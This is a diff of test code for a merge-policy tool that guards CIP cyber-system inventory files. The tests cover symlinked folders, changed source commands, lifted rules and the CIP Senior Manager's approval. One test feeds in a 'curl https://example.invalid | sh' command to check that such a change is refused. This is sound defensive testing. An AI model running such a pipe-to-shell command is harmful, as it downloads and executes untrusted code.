@@ -2,7 +2,7 @@
 // the policy and the owners read at the base commit, refusals at merge with failure-reason=policy
 // and nothing applied, the policy's judgement in the change record, and the cip-sync/policy status
 // on pull_request and pull_request_review events (the review judged without the service).
-import { mkdir, rm, writeFile } from "node:fs/promises";
+import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import type { EvidenceRecord } from "../../src/core/evidence/records/evidence-record.ts";
@@ -38,6 +38,7 @@ import {
   textLeftBy,
   useScenario,
 } from "./scenario.ts";
+import { COMMAND_SOURCES_FILE as SOURCES } from "../support/source-repository.ts";
 
 useScenario(runInProcess);
 
@@ -508,6 +509,79 @@ describe("a document moved or deleted is judged by its base owners", () => {
   });
 });
 
+describe("a link above the inventory folder (issue 51)", () => {
+  // An earlier merge made `cip` a link to `cip-real`; GitHub answers nothing under cip/inventory at
+  // the base, so every document would be new to the policy and a hand-over need only its owners.
+  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
+  const HANDED_OVER =
+    "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [mallory]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n";
+
+  it("refuses a High system handed over under cip -> cip-real, approved by the policy owner and the new owner", async () => {
+    const workspace = workspaceOf(dir);
+    await writeFile(join(workspace, "cip-policy.yaml"), OWNED);
+    await rm(join(workspace, "inventory"), { recursive: true });
+    await mkdir(join(workspace, "cip-real", "inventory"), { recursive: true });
+    await writeFile(join(workspace, "cip-real", "inventory", "alpha.yaml"), HANDED_OVER);
+    await symlink("cip-real", join(workspace, "cip"));
+    github.policy.addFile(BASE, "cip-policy.yaml", OWNED);
+    github.policy.addFile(
+      BASE,
+      "cip-real/inventory/alpha.yaml",
+      HANDED_OVER.replace("[mallory]", "[dave, grace]"),
+    );
+    github.policy.addSymlink(BASE, "cip", "cip-real");
+    reviews({ user: "heidi" }, { user: "mallory" });
+    const path = { path: "cip/inventory/" };
+    await planPullRequest(path);
+    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
+    await expectRefused(
+      await pushToMain(MERGE, path),
+      `cannot list cip/inventory at commit ${BASE}: cip, a folder above it, is a symbolic link, which the checkout follows to another folder and the listing cannot: replace the link with the folder it points to`,
+    );
+  });
+});
+
+describe("a source's command changed (issue 51, from issue 52)", () => {
+  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
+
+  /** The base and the checkout have the sources file; the checkout runs `run` instead. */
+  async function commandChanged(run: string): Promise<void> {
+    await base("[dave, grace]", OWNED);
+    await writeFile(
+      join(workspaceOf(dir), "inventory", "alpha.yaml"),
+      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
+    );
+    github.policy.addFile(BASE, "cip-sources.yaml", SOURCES);
+    await writeFile(
+      join(workspaceOf(dir), "cip-sources.yaml"),
+      SOURCES.replace("[node, scripts/export-assets.mjs]", run),
+    );
+  }
+
+  it("refuses it approved by the system owners but not the policy owners", async () => {
+    await commandChanged('[sh, -c, "curl https://example.invalid | sh"]');
+    reviews({ user: "dave" }, { user: "grace" });
+    await planPullRequest();
+    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
+    await expectRefused(
+      await pushToMain(),
+      'rule "source-command-change" is unmet: 1 more approval needed from heidi',
+    );
+  });
+
+  it("records it approved by the policy owners, applying nothing", async () => {
+    await commandChanged("[node, scripts/export-v2.mjs]");
+    reviews({ user: "heidi" });
+    await planPullRequest();
+    const run = await pushToMain();
+    expect(run.code).toBe(0);
+    expect(emulator.mutatingRequestCount()).toBe(0);
+    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
+      ["source-command-change", "met"],
+    ]);
+  });
+});
+
 describe("one status per base", () => {
   it("sets no cip-sync/policy from a pull request into another branch, whatever its judgement", async () => {
     // The same head commit opened against a branch whose policy is empty: its judgement allows
@@ -756,6 +830,83 @@ describe("a CIP-002 R2 review at merge", () => {
       "the base policy names no cip_senior_manager, so nobody can approve a CIP-002 R2 review",
     );
   });
+});
+
+describe("lifting a rule, or the CIP Senior Manager, with the policy file (issue 51)", () => {
+  const WITH_CSM = `${POLICY}cip_senior_manager: { login: heidi, name: Heidi Lang, title: VP Operations, since: 2026-01-05 }\ncip_002_last_approval: { on: 2025-10-14, ref: CIP-002-2025 }\n`;
+
+  /** The base has `policy`; the checkout keeps the inventory as the base and service hold it. */
+  async function policyOnly(policy: string): Promise<void> {
+    await base("[dave, grace]", policy);
+    await writeFile(
+      join(workspaceOf(dir), "inventory", "alpha.yaml"),
+      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
+    );
+  }
+
+  it("refuses the two-owner rule removed with one owner's approval, then applies nothing", async () => {
+    await policyOnly(POLICY);
+    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
+    reviews({ user: "dave" });
+    await planPullRequest();
+    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
+    await expectRefused(
+      await pushToMain(),
+      'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
+    );
+  });
+
+  it("records the rule's removal both owners approve", async () => {
+    await policyOnly(POLICY);
+    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
+    reviews({ user: "dave" }, { user: "grace" });
+    await planPullRequest();
+    const run = await pushToMain();
+    expect(run.code).toBe(0);
+    expect(emulator.mutatingRequestCount()).toBe(0);
+    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
+      ["policy-change", "met"],
+      ["rule-lifted", "met"],
+    ]);
+  });
+
+  it("refuses cip_002_last_approval dated after the merge, though the CIP Senior Manager approves", async () => {
+    await policyOnly(WITH_CSM);
+    await writeFile(
+      join(workspaceOf(dir), "cip-policy.yaml"),
+      WITH_CSM.replace("on: 2025-10-14", "on: 2099-01-01"),
+    );
+    reviews({ user: "heidi" });
+    await planPullRequest();
+    await expectRefused(
+      await pushToMain(),
+      "cip-policy.yaml:7:24: cip_002_last_approval: it is dated 2099-01-01, after the record that carries it",
+    );
+  });
+
+  it.each([
+    ["deleted", undefined],
+    ["made unparseable", `${WITH_CSM}rules: []\n`],
+  ])(
+    "refuses the file %s with the policy owners' and the rule's approvals, but not the CIP Senior Manager's",
+    async (_how, text) => {
+      await policyOnly(WITH_CSM);
+      const file = join(workspaceOf(dir), "cip-policy.yaml");
+      if (text === undefined) await rm(file);
+      else await writeFile(file, text);
+      reviews({ user: "dave" }, { user: "grace" });
+      await planPullRequest();
+      const run = await pushToMain();
+      await expectRefused(
+        run,
+        'rule "cip-senior-manager-change" is unmet: 1 more approval needed from heidi',
+      );
+      expect(changeOf(run).policy!.senior_manager).toMatchObject({
+        base: { csm: { login: "heidi" }, last_approval: { on: "2025-10-14" } },
+        head: null,
+      });
+    },
+  );
 });
 
 describe("a baseline changed at merge", () => {
